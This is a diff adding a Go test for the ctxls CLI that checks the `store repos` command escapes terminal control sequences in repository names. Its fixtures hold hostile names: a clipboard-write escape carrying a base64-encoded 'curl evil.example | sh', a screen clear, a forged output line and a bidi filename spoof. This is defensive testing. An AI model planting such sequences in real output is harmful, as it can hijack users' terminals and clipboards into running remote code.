@@ -1,15 +1,73 @@
 package cli
 
 import (
+	"context"
 	"fmt"
 	"os"
 	"path/filepath"
 	"strings"
 	"testing"
+	"time"
+
+	"github.com/jackc/pgx/v5"
 
 	"github.com/ctxls/ctxls/internal/pgstore"
 	"github.com/ctxls/ctxls/internal/pgstore/pgtest"
 )
+
+// TestStoreReposPrintable: `ctxls store repos` prints a repository's
+// name that ctxls would not write (a row put into the store by other
+// means) quoted and escaped, so that no terminal escape sequence (a
+// clipboard write, a screen clear, a forged line) reaches the terminal;
+// the names ctxls writes are printed as they are.
+func TestStoreReposPrintable(t *testing.T) {
+	url := pgtest.Start(t).NewDatabase(t, "names")
+	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
+	defer cancel()
+	st, err := pgstore.Open(ctx, url) // creates the tables
+	if err != nil {
+		t.Fatal(err)
+	}
+	st.Close()
+	c, err := pgx.Connect(ctx, url)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer c.Close(ctx)
+	evil := []string{
+		"org/clip\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
+		"org/clear\x1b[2J\x1b[H",
+		"org/forged\tgeneration 9\t1 files\t0.0 MB\t2026-01-01T00:00:00Z\norg/real",
+		"org/bidi\u202etxt.exe",
+		"org/ok",
+	}
+	for _, name := range evil {
+		if _, err := c.Exec(ctx, "INSERT INTO ctxls_repos (name, generation) VALUES ($1, 1)", name); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := c.Exec(ctx, "INSERT INTO ctxls_generations (repo, id, manifest, files, bytes) VALUES ($1, 1, '\\x00', 1, 1)", name); err != nil {
+			t.Fatal(err)
+		}
+	}
+	t.Setenv(pgstore.EnvStoreFile, "")
+	t.Setenv(pgstore.EnvStore, url)
+	out, stderr, code := ctxls(t, "", "store", "repos")
+	if code != 0 {
+		t.Fatalf("store repos: exit %d: %s", code, stderr)
+	}
+	if strings.ContainsAny(out, "\x1b\x07\r\u202e") {
+		t.Errorf("store repos prints a control character:\n%q", out)
+	}
+	lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
+	if len(lines) != len(evil) {
+		t.Errorf("store repos prints %d lines for %d repositories:\n%s", len(lines), len(evil), out)
+	}
+	for _, want := range []string{`"org/clip\x1b]52;c;`, `"org/clear\x1b[2J\x1b[H"`, `\norg/real"`, `"org/bidi\u202etxt.exe"`, "\norg/ok\tgeneration 1"} {
+		if !strings.Contains(out, want) {
+			t.Errorf("store repos: no %q in\n%s", want, out)
+		}
+	}
+}
 
 // TestStoreCredentialsCLI: the CLI's store commands read the connection
 // string from --store-file, $CTXLS_STORE_FILE or $CTXLS_STORE when no
